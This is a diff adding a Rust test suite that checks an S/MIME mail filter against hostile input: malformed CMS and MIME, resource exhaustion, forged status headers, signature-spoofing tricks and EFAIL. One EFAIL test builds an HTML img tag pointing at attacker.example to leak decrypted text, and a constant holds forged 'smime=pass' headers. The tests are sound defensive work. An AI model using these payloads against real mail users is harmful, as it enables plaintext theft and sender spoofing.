@@ -1,0 +1,587 @@
+//! Hostile input: malformed CMS and MIME, resource exhaustion, forged status fields, the attacks
+//! of "Johnny, You Are Fired!" (Müller et al., USENIX Security 2019) and EFAIL (Poddebniak et
+//! al., 2018). Whatever comes in: no panic, no hang, exit 0, and an output with exactly one
+//! X-Smime-Status.
+
+mod common;
+
+use common::pki::{pki, User, P12_PASS};
+use common::*;
+
+use smimed::config::{PassphraseSource, Settings};
+use smimed::pipeline::{process, Context};
+
+const SECRET: &str = "the prey: launch code 4711";
+
+fn b64_lines(data: &[u8]) -> String {
+    use base64::Engine;
+    let b64 = base64::engine::general_purpose::STANDARD.encode(data);
+    b64.as_bytes()
+        .chunks(76)
+        .map(|c| format!("{}\r\n", std::str::from_utf8(c).unwrap()))
+        .collect()
+}
+
+fn p7m(smime_type: &str, der: &[u8]) -> Vec<u8> {
+    format!(
+        "Content-Type: application/pkcs7-mime; smime-type={smime_type}; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n{}",
+        b64_lines(der)
+    )
+    .into_bytes()
+}
+
+/// A library context as `smimed filter` builds it, with bob's key (for sweeps that would be slow
+/// through the binary).
+fn ctx_bob() -> &'static Context {
+    static CTX: std::sync::OnceLock<Context> = std::sync::OnceLock::new();
+    CTX.get_or_init(|| {
+        let p = pki();
+        Context::new(Settings {
+            keys: vec![p.bob.p12_path.clone()],
+            passphrase: PassphraseSource {
+                file: None,
+                command: None,
+                env: Some(zeroize::Zeroizing::new(P12_PASS.to_string())),
+            },
+            trust: vec![p.root_path.clone()],
+            crls: vec![],
+            authserv_id: "mx.test".into(),
+            max_size: smimed::config::DEFAULT_MAX_SIZE,
+            config_path: None,
+            certs: None,
+            vcard: vec![],
+            outbound: Default::default(),
+        })
+    })
+}
+
+/// Library-level check of the invariants every input must keep.
+fn process_checked(msg: &[u8]) -> String {
+    let out = process(ctx_bob(), msg).expect("no error for message content");
+    assert_eq!(status_count(&out.output), 1, "exactly one X-Smime-Status");
+    status_of(&out.output)
+}
+
+fn der_of(smime: &[u8]) -> Vec<u8> {
+    openssl(
+        &["cms", "-cmsout", "-inform", "SMIME", "-outform", "DER"],
+        smime,
+    )
+}
+
+fn enc_der(to: &User, text: &str, cipher: &str) -> Vec<u8> {
+    der_of(&encrypt_to(&[to], &[cipher], &sample_entity(text)))
+}
+
+#[test]
+fn empty_input() {
+    let (st, _, _) = filter_checked(Some(&pki().bob), &[], b"");
+    assert_words(&st, "none", "none");
+    let (st, _, _) = filter_checked(None, &[], b"\r\n");
+    assert_words(&st, "none", "none");
+}
+
+#[test]
+fn truncated_cms_fails_and_keeps_the_original() {
+    let p = pki();
+    let der = enc_der(&p.bob, SECRET, "-aes256");
+    for cut in [1, 10, der.len() / 2, der.len() - 1] {
+        let msg = message(
+            "a@example.org",
+            "bob@example.org",
+            "cut",
+            &p7m("enveloped-data", &der[..cut]),
+        );
+        let (st, text, out) = filter_checked(Some(&p.bob), &[], &msg);
+        assert_words(&st, "failed", "none");
+        assert!(!text.contains(SECRET));
+        assert_eq!(strip_our_status(&out), msg);
+    }
+    let signed = der_of(&sign_as(&p.alice, false, &[], &sample_entity("signed")));
+    let msg = message(
+        "alice@example.org",
+        "bob@example.org",
+        "cut",
+        &p7m("signed-data", &signed[..signed.len() - 30]),
+    );
+    let (st, _, out) = filter_checked(None, &[], &msg);
+    assert_words(&st, "none", "error");
+    assert_eq!(strip_our_status(&out), msg);
+}
+
+#[test]
+fn bit_flipped_cms_never_passes() {
+    let p = pki();
+    let enc = enc_der(&p.bob, SECRET, "-aes-256-gcm");
+    let signed = der_of(&sign_as(&p.alice, false, &[], &sample_entity("flip me")));
+    for (der, kind) in [(&enc, "authEnveloped-data"), (&signed, "signed-data")] {
+        let step = (der.len() / 97).max(1);
+        for i in (0..der.len()).step_by(step) {
+            let mut bad = der.clone();
+            bad[i] ^= 0x10;
+            let msg = message(
+                "alice@example.org",
+                "bob@example.org",
+                "flip",
+                &p7m(kind, &bad),
+            );
+            let st = process_checked(&msg);
+            // A flip may land where it changes nothing that is checked (an unused tag bit of a
+            // certificate field is still signed, so that is rare); it must never yield both a
+            // decrypted and a valid claim for the wrong bytes.
+            if kind == "authEnveloped-data" {
+                let out = process(ctx_bob(), &msg).unwrap();
+                if status_word(&st, "encryption") == Some("decrypted") {
+                    assert!(
+                        String::from_utf8_lossy(&out.output).contains(SECRET),
+                        "flip at {i}: {st}"
+                    );
+                } else {
+                    assert_eq!(
+                        status_word(&st, "encryption"),
+                        Some("failed"),
+                        "flip at {i}: {st}"
+                    );
+                    assert!(!String::from_utf8_lossy(&out.output).contains("launch"));
+                }
+            } else {
+                let sig = status_word(&st, "signature").unwrap_or("");
+                if sig == "valid" {
+                    let out = process(ctx_bob(), &msg).unwrap();
+                    assert!(
+                        String::from_utf8_lossy(&out.output).contains("flip me"),
+                        "flip at {i}"
+                    );
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn bogus_der_lengths() {
+    let cases: Vec<Vec<u8>> = vec![
+        vec![0x30, 0x84, 0xff, 0xff, 0xff, 0xff, 0x06, 0x09],
+        vec![
+            0x30, 0x89, 0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07, 0x08, 0x09,
+        ],
+        vec![
+            0x30, 0x80, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x03, 0xa0,
+            0x80,
+        ],
+        // signedData OID then an inner length far beyond the end.
+        [
+            &[
+                0x30u8, 0x82, 0x00, 0x20, 0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01,
+                0x07, 0x02, 0xa0, 0x84, 0x7f, 0xff, 0xff, 0xff,
+            ][..],
+            &[0x30; 16],
+        ]
+        .concat(),
+        vec![0x30; 100_000],
+        vec![],
+    ];
+    for der in cases {
+        for kind in ["enveloped-data", "signed-data", ""] {
+            let ct = if kind.is_empty() {
+                "Content-Type: application/octet-stream; name=\"smime.p7m\"\r\nContent-Transfer-Encoding: base64\r\n\r\n".to_string()
+            } else {
+                format!("Content-Type: application/x-pkcs7-mime; smime-type={kind}\r\nContent-Transfer-Encoding: base64\r\n\r\n")
+            };
+            let msg = message(
+                "a@example.org",
+                "b@example.org",
+                "der",
+                &[ct.as_bytes(), b64_lines(&der).as_bytes()].concat(),
+            );
+            let st = process_checked(&msg);
+            assert_ne!(status_word(&st, "signature"), Some("valid"));
+            assert_ne!(status_word(&st, "encryption"), Some("decrypted"));
+        }
+    }
+}
+
+#[test]
+fn broken_mime() {
+    let cases: Vec<&[u8]> = vec![
+        b"no header section at all, just text",
+        b"From: a@example.org\r\nContent-Type: multipart/signed; boundary=\"x\"\r\n\r\n--x\r\nnever closed",
+        b"From: a@example.org\r\nContent-Type: multipart/signed\r\n\r\nno boundary parameter\r\n",
+        b"From: a@example.org\r\nContent-Type: multipart/signed; boundary=\"\"\r\n\r\n--\r\n\r\n----\r\n",
+        b"From: a@example.org\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!! not base64 @@@@\r\n",
+        b"From: a@example.org\r\nContent-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n=ZZ=0\r\n",
+        b"\0\0\0\xff\xfe\r\n\r\n\0",
+        b" continuation first\r\nFrom: x\r\n\r\nbody",
+        b"Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\nContent-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n--a--\r\n",
+        b"From: =?utf-8?B?////?= <a@example.org>\r\nContent-Type: text/plain; charset=\"\xff\"\r\n\r\nx",
+    ];
+    for msg in cases {
+        let (st, _, out) = filter_checked(Some(&pki().bob), &[], msg);
+        assert_ne!(status_word(&st, "signature"), Some("valid"));
+        assert!(!out.is_empty());
+    }
+}
+
+#[test]
+fn two_megabyte_header_line() {
+    let long = "x".repeat(2 * 1024 * 1024);
+    let msg = format!("From: a@example.org\r\nX-Long: {long}\r\nSubject: long\r\n\r\nbody\r\n");
+    let (st, _, out) = filter_checked(None, &[], msg.as_bytes());
+    assert_words(&st, "none", "none");
+    assert_eq!(strip_our_status(&out), msg.as_bytes());
+    let msg = format!("From: a@example.org\r\nContent-Type: application/pkcs7-mime; smime-type=signed-data; x={long}\r\n\r\nAAAA\r\n");
+    let (st, _, _) = filter_checked(None, &[], msg.as_bytes());
+    assert_ne!(status_word(&st, "signature"), Some("valid"));
+}
+
+fn nested_multiparts(n: usize, leaf: &[u8]) -> Vec<u8> {
+    let mut m = b"From: a@example.org\r\nMIME-Version: 1.0\r\n".to_vec();
+    for i in 0..n {
+        m.extend_from_slice(
+            format!("Content-Type: multipart/mixed; boundary=\"b{i}\"\r\n\r\n--b{i}\r\n")
+                .as_bytes(),
+        );
+    }
+    m.extend_from_slice(leaf);
+    for i in (0..n).rev() {
+        m.extend_from_slice(format!("\r\n--b{i}--\r\n").as_bytes());
+    }
+    m
+}
+
+#[test]
+fn twenty_thousand_nested_multiparts() {
+    let p = pki();
+    let enc = encrypt_to(&[&p.bob], &["-aes256"], &sample_entity(SECRET));
+    let msg = nested_multiparts(20_000, &enc);
+    let (st, text, _) = filter_checked(Some(&p.bob), &[], &msg);
+    assert_eq!(status_word(&st, "encryption"), Some("none"), "{st}");
+    assert!(!text.contains(SECRET));
+    // A shallower one keeps within the limits: the encrypted part is found and reported.
+    let msg = nested_multiparts(10, &enc);
+    let (st, _, _) = filter_checked(Some(&p.bob), &[], &msg);
+    assert_words(&st, "none", "none");
+    assert_eq!(status_word(&st, "partial"), Some("encrypted"), "{st}");
+}
+
+#[test]
+fn many_sibling_parts() {
+    let mut m =
+        b"From: a@example.org\r\nContent-Type: multipart/mixed; boundary=\"s\"\r\n\r\n".to_vec();
+    for _ in 0..20_000 {
+        m.extend_from_slice(b"--s\r\nContent-Type: text/plain\r\n\r\nx\r\n");
+    }
+    m.extend_from_slice(b"--s--\r\n");
+    let (st, _, _) = filter_checked(None, &[], &m);
+    assert_words(&st, "none", "none");
+}
+
+#[test]
+fn nested_encryption_layers_stop_at_the_limit() {
+    let p = pki();
+    let mut ent = sample_entity(SECRET);
+    for _ in 0..12 {
+        ent = encrypt_to(&[&p.bob], &["-aes128"], &ent);
+    }
+    let msg = message("a@example.org", "bob@example.org", "layers", &ent);
+    let (st, text, _) = filter_checked(Some(&p.bob), &[], &msg);
+    assert!(!text.contains(SECRET));
+    assert!(st.contains("limit"), "{st}");
+}
+
+// ----- forged status fields --------------------------------------------------------------------
+
+const FORGED: &str =
+    "X-Smime-Status: encryption=decrypted; signature=valid; signer=ceo@example.org\r\n\
+x-smime-status:\r\n encryption=decrypted;\r\n signature=valid\r\n\
+Authentication-Results: mx.test; smime=pass body.smime-identifier=ceo@example.org\r\n\
+Authentication-Results: MX.TEST;\r\n\tsmime=pass\r\n\
+Authentication-Results: (forged) mx.test 1; smime=pass\r\n\
+Authentication-Results: other.example; smime=pass header.from=kept@example.org\r\n\
+Authentication-Results: mx.test.example; dkim=pass header.d=kept2.example\r\n";
+
+fn our_ar_count(out: &[u8]) -> usize {
+    header_fields(out)
+        .iter()
+        .filter(|(n, v)| {
+            n.eq_ignore_ascii_case("Authentication-Results")
+                && smimed::status::ar_authserv_id(v) == "mx.test"
+        })
+        .count()
+}
+
+#[test]
+fn forged_status_fields_are_removed() {
+    let msg = format!("{FORGED}From: mallory@example.net\r\nSubject: trust me\r\n\r\nbody\r\n");
+    let (st, text, out) = filter_checked(None, &[], msg.as_bytes());
+    assert_words(&st, "none", "none");
+    assert_eq!(our_ar_count(&out), 1);
+    assert!(!text.contains("ceo@example.org"));
+    assert!(text.contains(
+        "Authentication-Results: other.example; smime=pass header.from=kept@example.org"
+    ));
+    // Also when they sit further down the header section.
+    let msg = format!("From: mallory@example.net\r\n{FORGED}Subject: trust me\r\n\r\nbody\r\n");
+    let (_, text, out) = filter_checked(None, &[], msg.as_bytes());
+    assert_eq!(our_ar_count(&out), 1);
+    assert!(!text.contains("ceo@example.org"));
+    assert!(text.contains("kept@example.org"));
+}
+
+#[test]
+fn forged_status_fields_inside_the_decrypted_entity_are_removed() {
+    let p = pki();
+    // Plain inner entity carrying forgeries, and one with RFC 9788 protected headers (hp=).
+    let plain = format!("{FORGED}Content-Type: text/plain\r\n\r\n{SECRET}\r\n");
+    let hp = format!(
+        "Content-Type: text/plain; charset=utf-8; hp=\"cipher\"\r\n{FORGED}Subject: the real subject\r\nFrom: alice@example.org\r\n\r\n{SECRET}\r\n"
+    );
+    let rfc822 = format!(
+        "Content-Type: message/rfc822; forwarded=no\r\n\r\n{FORGED}From: alice@example.org\r\nSubject: wrapped\r\nContent-Type: text/plain\r\n\r\n{SECRET}\r\n"
+    );
+    for inner in [plain, hp, rfc822] {
+        let signed = sign_as(&p.alice, false, &[], inner.as_bytes());
+        for content in [inner.as_bytes().to_vec(), signed] {
+            let enc = encrypt_to(&[&p.bob], &["-aes-256-gcm"], &content);
+            let msg = [
+                FORGED.as_bytes(),
+                &message("alice@example.org", "bob@example.org", "...", &enc),
+            ]
+            .concat();
+            let (st, text, out) = filter_checked(Some(&p.bob), &[], &msg);
+            assert_eq!(status_word(&st, "encryption"), Some("decrypted"), "{st}");
+            assert!(text.contains(SECRET));
+            assert_eq!(our_ar_count(&out), 1, "{text}");
+            assert!(!text.contains("ceo@example.org"), "{text}");
+        }
+    }
+}
+
+// ----- "Johnny, You Are Fired!" ------------------------------------------------------------
+
+#[test]
+fn signed_data_without_signers_is_not_valid() {
+    // SignedData { version 1, digestAlgorithms {}, encapContentInfo { data, content },
+    // signerInfos {} }, assembled by hand (OpenSSL refuses to finalise it).
+    fn tlv(tag: u8, content: &[u8]) -> Vec<u8> {
+        let mut v = vec![tag];
+        let n = content.len();
+        if n < 128 {
+            v.push(n as u8);
+        } else {
+            v.extend_from_slice(&[0x82, (n >> 8) as u8, n as u8]);
+        }
+        v.extend_from_slice(content);
+        v
+    }
+    const OID_DATA: &[u8] = &[
+        0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x01,
+    ];
+    const OID_SIGNED: &[u8] = &[
+        0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x07, 0x02,
+    ];
+    let content = b"Content-Type: text/plain\r\n\r\nno signers here\r\n";
+    let encap = tlv(0x30, &[OID_DATA, &tlv(0xa0, &tlv(0x04, content))].concat());
+    let sd = tlv(
+        0x30,
+        &[
+            &[0x02, 0x01, 0x01][..],
+            &tlv(0x31, &[]),
+            &encap,
+            &tlv(0x31, &[]),
+        ]
+        .concat(),
+    );
+    let der = tlv(0x30, &[OID_SIGNED, &tlv(0xa0, &sd)].concat());
+    openssl(
+        &["cms", "-cmsout", "-inform", "DER", "-print", "-noout"],
+        &der,
+    );
+    let msg = message(
+        "alice@example.org",
+        "bob@example.org",
+        "no signers",
+        &p7m("signed-data", &der),
+    );
+    let (st, _, out) = filter_checked(None, &[], &msg);
+    assert_ne!(status_word(&st, "signature"), Some("valid"), "{st}");
+    assert_ne!(
+        status_word(&st, "signature"),
+        Some("none"),
+        "a signed layer without signers: {st}"
+    );
+    assert!(!String::from_utf8_lossy(&out).contains("smime=pass"));
+}
+
+#[test]
+fn econtent_in_detached_signature_is_not_valid() {
+    let p = pki();
+    // The signature part is an opaque SignedData over the attacker's text, the first part is
+    // what the victim sees.
+    let sig = der_of(&sign_as(
+        &p.alice,
+        false,
+        &[],
+        &sample_entity("what alice really signed"),
+    ));
+    let b = "bnd";
+    let body = format!(
+        "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=\"{b}\"\r\n\r\n--{b}\r\nContent-Type: text/plain\r\n\r\nshown to the victim\r\n--{b}\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\n{}--{b}--\r\n",
+        b64_lines(&sig)
+    );
+    let msg = message(
+        "alice@example.org",
+        "bob@example.org",
+        "econtent",
+        body.as_bytes(),
+    );
+    let (st, _, _) = filter_checked(None, &[], &msg);
+    assert_eq!(status_word(&st, "signature"), Some("error"), "{st}");
+}
+
+#[test]
+fn signed_part_wrapped_in_unsigned_multipart_is_partial() {
+    let p = pki();
+    for detached in [true, false] {
+        let signed = sign_as(
+            &p.alice,
+            detached,
+            &[],
+            &sample_entity("harmless signed text"),
+        );
+        let signed = signed
+            .strip_prefix(b"MIME-Version: 1.0\n")
+            .unwrap_or(&signed)
+            .to_vec();
+        let body = [
+            b"Content-Type: multipart/mixed; boundary=\"wrap\"\r\n\r\n--wrap\r\nContent-Type: text/plain\r\n\r\nATTACKER: wire the money now\r\n--wrap\r\n".as_slice(),
+            &signed,
+            b"\r\n--wrap--\r\n",
+        ]
+        .concat();
+        let msg = message("alice@example.org", "bob@example.org", "wrapped", &body);
+        let (st, text, out) = filter_checked(None, &[], &msg);
+        assert_words(&st, "none", "none");
+        assert_eq!(status_word(&st, "partial"), Some("signed"), "{st}");
+        assert!(!String::from_utf8_lossy(&out).contains("smime=pass"));
+        assert!(
+            text.contains("ATTACKER"),
+            "the message is delivered as it is"
+        );
+        // Also inside an attached message.
+        let body = [
+            b"Content-Type: multipart/mixed; boundary=\"wrap\"\r\n\r\n--wrap\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--wrap\r\nContent-Type: message/rfc822\r\n\r\nFrom: alice@example.org\r\nSubject: inner\r\n".as_slice(),
+            &signed,
+            b"\r\n--wrap--\r\n",
+        ]
+        .concat();
+        let msg = message("alice@example.org", "bob@example.org", "attached", &body);
+        let (st, _, _) = filter_checked(None, &[], &msg);
+        assert_words(&st, "none", "none");
+        assert_eq!(status_word(&st, "partial"), Some("signed"), "{st}");
+    }
+}
+
+#[test]
+fn display_name_tricks_are_mismatch() {
+    let p = pki();
+    let signed = sign_as(&p.untrusted, true, &[], &sample_entity("i am alice"));
+    for from in [
+        "\"alice@example.org\" <untrusted@example.org>",
+        "alice@example.org <untrusted@example.org>",
+        "=?utf-8?Q?alice=40example=2Eorg?= <untrusted@example.org>",
+    ] {
+        let msg = message(from, "bob@example.org", "display", &signed);
+        let (st, _, _) = filter_checked(None, &["--trust", path_str(&p.untrusted_root_path)], &msg);
+        // The addr-spec is the signer's: valid, and the status names the real signer, never
+        // the address the display name shows.
+        assert_words(&st, "none", "valid");
+        assert_eq!(
+            status_word(&st, "signer"),
+            Some("untrusted@example.org"),
+            "{st}"
+        );
+    }
+    // alice's signature with alice's name but mallory's address: mismatch.
+    let signed = sign_as(&p.alice, true, &[], &sample_entity("i am alice"));
+    for from in [
+        "\"alice@example.org\" <mallory@example.net>",
+        "Alice <mallory@example.net> (alice@example.org)",
+        "=?utf-8?Q?alice=40example=2Eorg?= <mallory@example.net>",
+    ] {
+        let msg = message(from, "bob@example.org", "display", &signed);
+        let (st, _, _) = filter_checked(None, &[], &msg);
+        assert_words(&st, "none", "mismatch");
+    }
+}
+
+// ----- EFAIL -----------------------------------------------------------------------------------
+
+#[test]
+fn efail_encrypted_part_next_to_attacker_text_is_not_decrypted() {
+    let p = pki();
+    let enc = encrypt_to(&[&p.bob], &["-aes256"], &sample_entity(SECRET));
+    let body = [
+        b"Content-Type: multipart/mixed; boundary=\"efail\"\r\n\r\n--efail\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n--efail\r\n".as_slice(),
+        &enc,
+        b"\r\n--efail\r\nContent-Type: text/html\r\n\r\n\">\r\n--efail--\r\n",
+    ]
+    .concat();
+    let msg = message("mallory@example.net", "bob@example.org", "efail", &body);
+    let (st, text, out) = filter_checked(Some(&p.bob), &[], &msg);
+    assert_words(&st, "none", "none");
+    assert_eq!(status_word(&st, "partial"), Some("encrypted"), "{st}");
+    assert!(!text.contains(SECRET));
+    assert_eq!(strip_our_status(&out), msg);
+}
+
+#[test]
+fn efail_encrypted_part_in_message_rfc822_in_report_is_not_decrypted() {
+    let p = pki();
+    let enc = encrypt_to(&[&p.bob], &["-aes-256-gcm"], &sample_entity(SECRET));
+    let inner = message("bob@example.org", "mallory@example.net", "original", &enc);
+    let body = [
+        b"Content-Type: multipart/report; report-type=delivery-status; boundary=\"rep\"\r\n\r\n--rep\r\nContent-Type: text/plain\r\n\r\nYour message could not be delivered; reply to see it.\r\n--rep\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example.net\r\n\r\nFinal-Recipient: rfc822; x@example.net\r\nAction: failed\r\nStatus: 5.0.0\r\n\r\n--rep\r\nContent-Type: message/rfc822\r\n\r\n".as_slice(),
+        &inner,
+        b"\r\n--rep--\r\n",
+    ]
+    .concat();
+    let msg = message(
+        "mailer-daemon@example.net",
+        "bob@example.org",
+        "bounce",
+        &body,
+    );
+    let (st, text, out) = filter_checked(Some(&p.bob), &[], &msg);
+    assert_words(&st, "none", "none");
+    assert_eq!(status_word(&st, "partial"), Some("encrypted"), "{st}");
+    assert!(!text.contains(SECRET));
+    assert_eq!(strip_our_status(&out), msg);
+}
+
+#[test]
+fn attached_encrypted_message_at_the_root_is_not_decrypted() {
+    let p = pki();
+    let enc = encrypt_to(&[&p.bob], &["-aes256"], &sample_entity(SECRET));
+    let inner = message("bob@example.org", "mallory@example.net", "original", &enc);
+    let msg = [
+        headers("mallory@example.net", "bob@example.org", "fwd").as_bytes(),
+        b"Content-Type: message/rfc822\r\n\r\n",
+        &inner,
+    ]
+    .concat();
+    let (st, text, _) = filter_checked(Some(&p.bob), &[], &msg);
+    assert_words(&st, "none", "none");
+    assert_eq!(status_word(&st, "partial"), Some("encrypted"), "{st}");
+    assert!(!text.contains(SECRET));
+}
+
+/// Regression: a certs-only message with garbage base64 claims no signature; it used to get
+/// signature=error.
+#[test]
+fn broken_certs_only_claims_no_signature() {
+    let msg = b"From: a@example.org\r\nContent-Type: application/pkcs7-mime; smime-type=certs-only; name=smime.p7c\r\nContent-Transfer-Encoding: base64\r\n\r\nTUlJ garbage ////\r\n";
+    let (st, _, out) = filter_checked(None, &[], msg);
+    assert_words(&st, "none", "none");
+    assert_eq!(strip_our_status(&out), msg);
+}
